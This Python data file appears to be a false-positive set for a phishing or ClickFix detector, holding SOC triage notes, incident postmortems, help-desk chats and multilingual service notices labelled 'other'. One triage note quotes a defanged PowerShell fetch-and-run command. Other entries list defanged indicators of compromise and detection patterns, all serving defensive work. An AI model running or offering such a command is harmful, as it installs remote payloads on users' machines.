"""fpover18 texts: analysts' notes, incident write-ups, help-desk chats and genuine notices (own words)."""

SOC = [
    (
        "https://jira.acme.example/browse/SOC-4412",
        "other",
        'SOC-4412 triage notes\n- 09:12 Defender alert \'Suspicious PowerShell command line\' on WS-0231 (user j.moreno)\n- Parent: explorer.exe -> powershell.exe -w h -nop -c "iex(irm hxxps://cdn-check[.]top/v)"\n- Source: RunMRU entry created 09:11, user says a "verify you are human" page told him to press Win+R\n- Domain registered 3 days ago, resolves to 185.234.72[.]19\n- Action: isolated host 09:20, blocked domain at proxy, reset creds, ticket to IT for reimage\n- Status: contained',
    ),
    (
        "https://confluence.acme.example/display/SEC/Weekly+threat+brief",
        "other",
        "Weekly threat brief (wk 48)\nClickFix-style lures remain the top initial-access vector we see. IOCs added to the blocklist this week:\n  update-chrome-secure[.]com\n  captcha-cloud[.]xyz\n  45.61.137[.]44\n  SHA256 0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0\nNo user reports of execution. Reminder to helpdesk: nobody legitimate asks users to paste commands into Win+R.",
    ),
    (
        None,
        "other",
        'Case 2024-1187 (phishing, closed)\nReporter forwarded mail "Invoice overdue" from billing@acme-invoices[.]net. Link pointed to hxxps://acme-invoices[.]net/view?id=88121 which served a fake Microsoft login. 14 recipients, 2 clicked, 0 entered credentials (checked sign-in logs). Sender domain blocked, mail purged with Purview content search. Lessons: tag external senders in the subject.',
    ),
    (
        "https://slack.com/app_redirect?channel=soc",
        "other",
        "@here heads up: seeing a burst of DNS lookups for *.trycloudflare[.]com from the finance VLAN. Most are the new BI tool's preview links (confirmed with Priya), but WS-0412 also hit a random subdomain right after mshta.exe started. Pulling the timeline now, will post in thread.",
    ),
    (
        None,
        "other",
        'Analyst note: the sample reaches out to hxxp://91.92.240[.]11:8080/gate.php every 60s with a base64 body. Decoded beacon: {"id":"a9f3","os":"Win10","av":"Defender"}. No second stage retrieved in sandbox. Verdict: commodity stealer, matches family seen in Oct. Blocked IP at firewall, added hash to EDR custom IOC list.',
    ),
    (
        "https://www.virustotal.com/gui/file/",
        "other",
        "VT summary for the attachment: 41/72 engines, first seen 2024-12-01, names: Trojan.PowerShell.Agent, HEUR:Trojan-Downloader.Script.Generic. Contacted URLs: hxxps://files-share[.]click/a.ps1, hxxps://files-share[.]click/b.zip. Behaviour: creates scheduled task 'MicrosoftEdgeUpdateTaskCore', writes to %APPDATA%\\Roaming\\svc\\.",
    ),
    (
        None,
        "other",
        "Shift handover 18:00\n1. INC-7731 still open — waiting on legal for mailbox export.\n2. False positive from the new Intune remediation script (it runs powershell -ExecutionPolicy Bypass -File); created suppression rule SUP-219 scoped to the script hash.\n3. Vuln scan on DMZ finished, 3 highs, tickets raised.\nNothing else pending. Night shift: keep an eye on the VPN brute-force alert, threshold was lowered today.",
    ),
    (
        "https://attack.mitre.org/techniques/T1204/004/",
        "other",
        "Mapping for the report: initial access via user execution (T1204.004 Malicious Copy and Paste), execution through PowerShell (T1059.001), ingress tool transfer (T1105), persistence via Run key (T1547.001). Detection opportunities: RunMRU writes by explorer.exe followed by powershell.exe with a network connection within 10 seconds.",
    ),
    (
        None,
        "other",
        'IOC list for the block (do not click):\nhttps://login-microsoftonline.support-desk.top/\nhttps://docs-viewer.cloud-share.icu/file/8812\n104.21.55.12\n172.67.190.3\nmail from: no-reply@secure-docs-share.com\nsubject: "You have (2) new documents waiting"',
    ),
    (
        None,
        "other",
        "Threat hunt result: 0 hits across 4,200 endpoints for the command line pattern 'mshta http' in the last 30 days; 3 hits for 'powershell -enc' all from the SCCM client health script (known good, signed by our code-signing cert). Closing the hunt.",
    ),
    (
        "https://github.com/acme/detections/pull/88",
        "other",
        "This PR tunes the rule for conhost --headless: our VDI login script legitimately starts `conhost.exe --headless powershell -File \\\\corp\\netlogon\\vdi.ps1`, so the rule now excludes that exact path and parent userinit.exe. All other --headless launches still alert.",
    ),
    (
        None,
        "other",
        "Containment checklist (ransomware precursor)\n[x] isolate host in Defender\n[x] disable AD account\n[x] revoke refresh tokens (Revoke-MgUserSignInSession)\n[ ] collect triage package (KAPE)\n[ ] check for lateral movement: 4624 type 3 from host in last 48h\n[ ] notify DPO if personal data involved",
    ),
    (
        "https://teams.microsoft.com/",
        "other",
        "Pasting what the user sent us so it's in the ticket: the site said \"Press Windows + R, then Ctrl + V, then Enter to verify\". He did it. The clipboard contained a powershell line with a download from a .shop domain. EDR blocked the child process. Host is clean per full scan; we're resetting his password anyway.",
    ),
    (
        None,
        "other",
        "Sigma rule review: 'proc_creation_win_mshta_http' is too noisy in our estate because of a legacy HR app that launches mshta with a local .hta file. Proposal: keep the rule, add filter for Image|endswith '\\mshta.exe' and CommandLine|contains 'C:\\Program Files\\HRSuite\\'. Remote URLs still alert.",
    ),
]

WRITEUP = [
    (
        "https://status.example-saas.com/incidents/k2j4h",
        "other",
        "Incident report: elevated API error rates (Nov 14)\nSummary: between 13:02 and 13:47 UTC about 18% of API requests failed with HTTP 503.\nRoot cause: a configuration change reduced the connection pool of the primary database proxy from 400 to 40.\nResolution: the change was rolled back at 13:41; error rates returned to normal by 13:47.\nFollow-up: config changes to the proxy now go through staged rollout with automated canary checks.",
    ),
    (
        "https://blog.acme.example/postmortems/2024-10-dns",
        "other",
        "Postmortem: DNS outage on October 3rd\nTimeline (UTC)\n08:14 Deploy of new CoreDNS config begins\n08:16 First alerts: internal services cannot resolve *.svc.cluster.local\n08:22 Incident declared, rollback started\n08:31 Rollback complete, resolution restored\nWhat went wrong: the new Corefile had a typo in the forward block (`forward . /etc/resolv.conf` was replaced by `forward . 10.0.0.2:5353`, an address that was never deployed).\nAction items: lint Corefile in CI; add synthetic DNS probe.",
    ),
    (
        "https://engineering.example.org/2024/11/rca-certificate-expiry",
        "other",
        'RCA: expired TLS certificate on the payments gateway\nImpact: card payments failed for 52 minutes. Customers saw "Your connection is not private".\nWhy: the certificate was renewed by certbot but nginx was never reloaded because the deploy hook pointed to a removed script.\nFix: `certbot renew --deploy-hook "systemctl reload nginx"`, plus monitoring of days-to-expiry on every public endpoint (alert at 21 days).',
    ),
    (
        None,
        "other",
        'Security incident summary for the board (non-technical)\nOn 12 November an employee was tricked by a fake "human verification" page into running a command on their laptop. Our endpoint protection stopped the harmful program before it did anything. No customer data was accessed. We have reminded all staff that no website will ever ask them to copy and paste commands, and we are adding a technical control that warns before such pastes.',
    ),
    (
        "https://www.cisa.gov/news-events/cybersecurity-advisories",
        "other",
        "Mitigations\n• Disable the Run dialog for standard users where it is not needed (User Configuration > Administrative Templates > Start Menu and Taskbar > Remove Run menu from Start Menu).\n• Restrict PowerShell to Constrained Language Mode with AppLocker or WDAC.\n• Train users to recognise fake CAPTCHA pages that ask them to press Win+R.\n• Monitor HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU for unusual entries.",
    ),
    (
        "https://github.com/acme/platform/issues/1432",
        "other",
        "Bug: deploy script fails on fresh runners\nSteps: run `./scripts/bootstrap.sh` on a clean Ubuntu 24.04 runner.\nExpected: tools installed, build continues.\nActual: `curl: (6) Could not resolve host: get.helm.sh` then `bash: helm: command not found`.\nCause: the runner's egress allow-list doesn't include get.helm.sh. Workaround: use the helm binary cached in the runner image.",
    ),
    (
        "https://about.gitlab.com/blog/",
        "other",
        "Lessons learned from our database incident: we ran `pg_repack` during peak hours, it took an exclusive lock at the end, and writes queued for 9 minutes. We now schedule repacks in the maintenance window and set lock_timeout=5s so the tool gives up instead of blocking.",
    ),
    (
        None,
        "other",
        "Post-incident review — laptop compromise via fake CAPTCHA (INC-2291)\nWhat happened: user visited a compromised WordPress site; a fake Cloudflare check page copied a command to the clipboard and told them to press Win+R, Ctrl+V, Enter.\nWhat the command did: mshta fetched a remote HTA which dropped an info-stealer into %LOCALAPPDATA%.\nDetection: EDR alert 4 minutes later on credential store access.\nResponse: isolation, password resets for 11 saved sites, browser session revocation.\nImprovements: RunMRU monitoring, clipboard guard rollout, awareness mail.",
    ),
    (
        "https://security.example.edu/advisories/2024-07",
        "other",
        'Advisory: phishing campaign targeting students\nWe\'ve received reports of emails claiming your university account will be deleted unless you "verify" it within 24 hours. The link leads to a copy of our login page at a look-alike address. The IT Service Desk will never ask you to verify your account by email. If you entered your password, change it at https://password.example.edu and call us on +44 1632 960 017.',
    ),
    (
        "https://aws.amazon.com/message/12721/",
        "other",
        "Summary of the service event: an automated scaling activity triggered unexpected behavior from a large number of clients inside the internal network, causing congestion between the internal network and the main network. Operators worked to reduce congestion by moving internal DNS traffic; full recovery took several hours. We are deploying additional network configuration that protects potentially impacted networking devices.",
    ),
]

HELPDESK = [
    (
        "https://acme.zendesk.com/agent/tickets/58213",
        "other",
        "Agent (Tom): Hi Sara, thanks for waiting. Can you open the Start menu, type \"cmd\" and press Enter?\nSara: ok it's open\nAgent (Tom): Great, now type ipconfig /all and send me a screenshot please.\nSara: [image.png]\nAgent (Tom): Thanks — your laptop didn't get an address from the dock. Please unplug the USB-C dock for 10 seconds, plug it back in, then run ipconfig /renew.",
    ),
    (
        "https://acme.freshservice.com/helpdesk/tickets/9921",
        "other",
        'Hello Mark,\nTo fix the Outlook profile issue please do the following:\n1. Close Outlook.\n2. Press Win+R, type control mlcfg32.cpl and press OK (if that doesn\'t work, Control Panel > Mail).\n3. Click Show Profiles > Add, name it "Outlook2", and sign in with your work address.\n4. Select "Always use this profile" and choose Outlook2.\nLet me know if it still asks for the password.\nRegards, IT Service Desk (ext. 2200)',
    ),
    (
        "https://teams.microsoft.com/",
        "other",
        "[10:02] Priya (IT): can you run this in PowerShell and paste me the output? Get-Printer | Select Name, PortName, DriverName\n[10:04] Ben: Name PortName DriverName ... HP-3rdFloor 10.1.3.45 HP Universal Printing PCL 6\n[10:05] Priya (IT): thanks, the port is wrong — I'll push the fix from our side, reboot in 5 min",
    ),
    (
        None,
        "other",
        "Ticket #48812 — Teams won't start\nSteps tried: reinstall, clear cache (%appdata%\\Microsoft\\Teams), sign out/in. Next: run `winget uninstall Microsoft.Teams.Classic` then install new Teams from the Company Portal. If it still fails collect logs with Ctrl+Alt+Shift+1 and attach them here.",
    ),
    (
        "https://support.zoom.com/hc/en/article?id=zm_kb&sysparm_article=KB0060414",
        "other",
        'Support chat transcript\nCustomer: Zoom says my audio device is not detected\nAgent: Sorry about that! Could you open Zoom > Settings > Audio and tell me what\'s listed under Speaker and Microphone?\nCustomer: "Same as system"\nAgent: Please select your headset explicitly, then click Test Speaker. If nothing plays, update Zoom via Profile > Check for updates (current version is 6.2.x).',
    ),
    (
        None,
        "other",
        'Hi all — the VPN client is being replaced on Friday. Nothing to do on your side: Intune will install GlobalProtect overnight and remove the old client. On Monday, click the globe icon in the system tray and sign in with your usual account. If it says "Gateway not found", call the service desk on extension 5000 or raise a ticket at https://itsupport.acme.example.',
    ),
    (
        "https://acme.atlassian.net/servicedesk/customer/portal/2/IT-7712",
        "other",
        'Resolution: user\'s OneDrive was stuck on "Processing changes". Reset with:\n%localappdata%\\Microsoft\\OneDrive\\onedrive.exe /reset\nthen restarted OneDrive from the Start menu. Sync resumed after 10 min. Closing ticket.',
    ),
    (
        None,
        "other",
        "Remote session notes: connected with Quick Assist (user gave me the code, I did not ask for any password). Cleared the print queue (net stop spooler, del %systemroot%\\System32\\spool\\PRINTERS\\* /q, net start spooler), printed test page OK. Session ended by user 14:32.",
    ),
    (
        "https://support.apple.com/",
        "other",
        "Apple Support chat: To reset NVRAM on an Intel Mac, shut down, then turn it on and immediately press and hold Option-Command-P-R for about 20 seconds. On Apple silicon Macs NVRAM resets automatically if needed at startup. Anything else I can help with today?",
    ),
    (
        "https://community.spiceworks.com/",
        "other",
        "Had the same thing on a batch of Dell Latitudes after the BIOS update. Fix for us was: boot to BIOS, Storage > switch from RAID On to AHCI/NVMe, then in Windows run `bcdedit /set {current} safeboot minimal`, reboot into BIOS, change the mode, boot to safe mode, `bcdedit /deletevalue {current} safeboot`, reboot. Took 5 min per machine.",
    ),
    (
        "https://acme.service-now.com/",
        "other",
        "Known error KE0012: after the 24H2 upgrade the Wi-Fi adapter disappears on HP EliteBook 840 G8. Workaround: Device Manager > Network adapters > Intel Wi-Fi 6 AX201 > Uninstall device (tick delete driver), reboot. Permanent fix: driver 23.60 pushed via Intune on 12/09.",
    ),
    (
        None,
        "other",
        "Hey, the wifi password for the guest network changed today — it's on the whiteboard in reception and on the intranet page (Facilities > Guest Wi-Fi). Staff devices should use ACME-Corp which signs in automatically with your laptop certificate.",
    ),
]

# Genuine notices with a phone number, one per language (bank, ISP, telco, utility, retailer).
NOTICES = [
    (
        "en",
        "https://mail.google.com/",
        "Your card ending 4821 was used for a payment of £42.90 at TESCO STORES on 3 Dec. If you don't recognise this payment, call us on the number on the back of your card. We will never ask you for your PIN or full card number.",
    ),
    (
        "en",
        "https://outlook.live.com/",
        "Scheduled maintenance: broadband in your area (postcode LS6) will be unavailable on Tuesday 10 December between 00:00 and 04:00 while we upgrade equipment. No action is needed. Questions? Call 0800 800 150 or visit bt.com/help.",
    ),
    (
        "de",
        "https://web.de/",
        "Sehr geehrte Kundin, sehr geehrter Kunde,\nam 14.12. zwischen 01:00 und 05:00 Uhr führen wir Wartungsarbeiten an unserem Online-Banking durch. In dieser Zeit stehen Überweisungen nicht zur Verfügung. Bei Fragen erreichen Sie uns unter 069 910-10000 (Mo–Fr 8–20 Uhr).\nIhre Bank",
    ),
    (
        "de",
        "https://mail.google.com/",
        "Ihre Rechnung für November steht im Kundencenter bereit. Betrag: 39,99 €, Abbuchung am 15.12. von Ihrem Konto. Fragen zu Ihrer Rechnung beantworten wir gern unter 0800 330 1000. Ihr Telekom Team",
    ),
    (
        "fr",
        "https://mail.orange.fr/",
        "Bonjour,\nVotre facture Orange de novembre est disponible dans votre Espace Client. Montant : 36,99 €. Prélèvement le 12/12. Pour toute question, appelez le 3900 (service gratuit + prix appel).\nCordialement, le service client",
    ),
    (
        "fr",
        "https://outlook.live.com/",
        "Votre colis n° 6A12345678901 sera livré demain entre 9h et 13h. Vous pouvez modifier la livraison sur laposte.fr/suivi ou contacter le 3631. Merci de votre confiance.",
    ),
    (
        "es",
        "https://mail.google.com/",
        "Estimado cliente: le informamos de que el próximo 15 de diciembre actualizaremos nuestra app. Durante la madrugada (de 2:00 a 4:00) algunos servicios podrían no estar disponibles. Para cualquier duda, llame al 900 100 000. Nunca le pediremos sus claves por teléfono.",
    ),
    (
        "es",
        "https://outlook.live.com/",
        "Movistar: tu nueva tarifa Fusión entra en vigor el 1 de enero. Consulta los detalles en la app Mi Movistar o llama gratis al 1004. Si no deseas el cambio, puedes darte de baja sin penalización.",
    ),
    (
        "it",
        "https://mail.libero.it/",
        "Gentile cliente, la informiamo che dal 1° gennaio le condizioni del conto corrente cambieranno come descritto nel documento allegato. Per informazioni può contattare il Servizio Clienti al numero 800 303 303, dal lunedì al venerdì dalle 8 alle 22.",
    ),
    (
        "it",
        "https://mail.google.com/",
        "TIM: il pagamento della fattura di novembre è andato a buon fine. Importo 29,90 €. Per assistenza chiama il 187 o visita tim.it. Grazie per aver scelto TIM.",
    ),
    (
        "pt",
        "https://mail.google.com/",
        "Caro cliente, informamos que a manutenção programada da rede ocorrerá no dia 11/12, das 00h às 05h. O serviço de internet poderá ficar indisponível. Em caso de dúvidas, ligue para 16 200 (MEO). Obrigado pela compreensão.",
    ),
    (
        "pt",
        "https://outlook.live.com/",
        "Nubank: a fatura do seu cartão fecha dia 08/12 no valor de R$ 1.248,30. Pague pelo app ou pelo boleto. Dúvidas? Fale com a gente pelo app ou pelo 0800 608 6236. Nunca pedimos sua senha.",
    ),
    (
        "nl",
        "https://mail.google.com/",
        "Beste klant, op zaterdag 14 december tussen 02:00 en 06:00 uur voeren wij onderhoud uit. Internetbankieren en de app zijn dan beperkt beschikbaar. Vragen? Bel 020 343 4000. Wij vragen nooit om uw pincode of inlogcodes.",
    ),
    (
        "nl",
        "https://outlook.live.com/",
        "KPN: uw nieuwe modem wordt op 12 december bezorgd. Sluit hem aan volgens de handleiding in de doos; uw oude modem kunt u gratis terugsturen. Hulp nodig? Bel 0800 0402 (gratis).",
    ),
    (
        "pl",
        "https://poczta.onet.pl/",
        "Szanowni Państwo, informujemy, że w nocy z 14 na 15 grudnia (od 00:00 do 04:00) bankowość internetowa będzie niedostępna z powodu prac serwisowych. W razie pytań prosimy o kontakt: 19 999 (opłata zgodna z cennikiem operatora). Nigdy nie prosimy o podanie hasła.",
    ),
    (
        "pl",
        "https://mail.google.com/",
        "Orange: Twoja faktura za listopad na kwotę 59,99 zł jest dostępna w Mój Orange. Termin płatności: 20.12. Pytania? Zadzwoń pod 510 100 100.",
    ),
    (
        "tr",
        "https://mail.google.com/",
        "Değerli müşterimiz, 15 Aralık 02:00-05:00 saatleri arasında planlı bakım çalışması nedeniyle internet bankacılığı hizmetlerimiz kesintili olabilir. Bilgi için 0850 222 0 800 numaralı müşteri hizmetlerimizi arayabilirsiniz. Şifrenizi kimseyle paylaşmayın.",
    ),
    (
        "tr",
        "https://outlook.live.com/",
        "Turkcell: Aralık ayı faturanız 249,90 TL olarak oluşmuştur. Son ödeme tarihi 20.12. Detaylar için Turkcell Hesabım uygulamasını kullanabilir veya 532'yi arayabilirsiniz.",
    ),
    (
        "ru",
        "https://mail.yandex.ru/",
        "Уважаемый клиент! 14 декабря с 01:00 до 05:00 (мск) будут проводиться плановые технические работы. Мобильное приложение может работать с перерывами. Вопросы — по номеру 900. Мы никогда не запрашиваем коды из СМС.",
    ),
    (
        "ru",
        "https://mail.ru/",
        "Ваш счёт за интернет за ноябрь: 650 ₽. Оплатить можно в личном кабинете до 25 декабря. Служба поддержки: 8 800 100 0800 (звонок бесплатный). Спасибо, что вы с нами.",
    ),
    (
        "ja",
        "https://mail.yahoo.co.jp/",
        "【メンテナンスのお知らせ】12月14日(土) 1:00〜5:00 の間、システムメンテナンスのためインターネットバンキングをご利用いただけません。ご不明な点はカスタマーセンター 0120-123-456 (平日9:00〜17:00) までお問い合わせください。暗証番号をお尋ねすることはありません。",
    ),
    (
        "ja",
        "https://mail.google.com/",
        "ご利用料金のお知らせ：11月分のご請求額は 5,280円 です。お支払いは12月26日にご指定の口座から引き落とされます。お問い合わせは 157 (携帯から・無料) へ。",
    ),
    (
        "zh",
        "https://mail.qq.com/",
        "尊敬的客户：我行将于12月14日凌晨1:00至5:00进行系统升级，期间手机银行和网上银行暂停服务。如有疑问，请致电客服热线 95588。我行工作人员不会向您索要密码或验证码。",
    ),
    (
        "zh",
        "https://mail.163.com/",
        "【中国移动】尊敬的客户，您11月话费账单已出，金额 88.00 元，将于本月25日自动扣款。详情请登录中国移动APP或拨打 10086 查询。",
    ),
    (
        "ar",
        "https://mail.google.com/",
        "عميلنا العزيز، نود إعلامكم بأعمال صيانة مجدولة لخدمات الإنترنت البنكي يوم السبت 14 ديسمبر من الساعة 1:00 حتى 5:00 صباحاً. للاستفسار يرجى الاتصال على 800 124 8000. لن نطلب منكم أبداً رقمكم السري.",
    ),
    (
        "ar",
        "https://outlook.live.com/",
        "فاتورتك لشهر نوفمبر جاهزة بمبلغ 150 درهم. يمكنك الدفع عبر التطبيق أو الموقع قبل 20 ديسمبر. لخدمة العملاء اتصل بالرقم 101. شكراً لاختيارك اتصالات.",
    ),
    (
        "sv",
        "https://mail.google.com/",
        "Hej! Natten till söndag 15 december (kl. 01–05) uppdaterar vi våra system och internetbanken kan vara otillgänglig. Har du frågor? Ring oss på 0771-22 11 22. Vi ber dig aldrig om koder via telefon eller sms.",
    ),
    (
        "cs",
        "https://email.seznam.cz/",
        "Vážený kliente, dne 14. 12. od 1:00 do 5:00 proběhne plánovaná údržba internetového bankovnictví. Aplikace nebude v tuto dobu dostupná. V případě dotazů volejte 800 150 150. Nikdy po vás nebudeme chtít PIN ani hesla.",
    ),
    (
        "uk",
        "https://ukr.net/",
        "Шановний клієнте! 14 грудня з 01:00 до 05:00 проводитимуться планові технічні роботи, можливі перебої в роботі застосунку. Питання — за номером 3700. Ми ніколи не запитуємо пароль чи CVV.",
    ),
    (
        "ko",
        "https://mail.naver.com/",
        "[안내] 12월 14일(토) 01:00~05:00 시스템 점검으로 인터넷뱅킹 및 모바일뱅킹 이용이 일시 중단됩니다. 문의: 고객센터 1588-1234. 당사는 어떠한 경우에도 비밀번호를 요구하지 않습니다.",
    ),
    (
        "hi",
        "https://mail.google.com/",
        "प्रिय ग्राहक, 14 दिसंबर को रात 1:00 से 5:00 बजे तक नियोजित रखरखाव के कारण नेट बैंकिंग उपलब्ध नहीं रहेगी। किसी भी जानकारी के लिए 1800 1234 पर कॉल करें। बैंक कभी भी आपका OTP या पिन नहीं मांगता।",
    ),
    (
        "el",
        "https://mail.google.com/",
        "Αγαπητέ πελάτη, στις 14/12 από 01:00 έως 05:00 θα πραγματοποιηθούν εργασίες συντήρησης και το e-banking δεν θα είναι διαθέσιμο. Για πληροφορίες καλέστε στο 210 32 88 000. Δεν ζητάμε ποτέ κωδικούς μέσω τηλεφώνου.",
    ),
    (
        "ro",
        "https://mail.yahoo.com/",
        "Stimate client, în data de 14.12, între orele 01:00 și 05:00, serviciul de internet banking va fi indisponibil din cauza lucrărilor de mentenanță. Pentru întrebări sunați la *2265. Nu vă vom cere niciodată parola.",
    ),
    (
        "vi",
        "https://mail.google.com/",
        "Kính gửi Quý khách, hệ thống ngân hàng điện tử sẽ tạm ngừng từ 01:00 đến 05:00 ngày 14/12 để bảo trì. Mọi thắc mắc xin liên hệ tổng đài 1900 545 413. Ngân hàng không bao giờ yêu cầu mã OTP qua điện thoại.",
    ),
    (
        "id",
        "https://mail.google.com/",
        "Nasabah yth, layanan mobile banking akan mengalami pemeliharaan pada 14 Desember pukul 01.00–05.00 WIB. Informasi lebih lanjut hubungi Halo BCA 1500888. Jangan berikan kode OTP kepada siapa pun.",
    ),
]
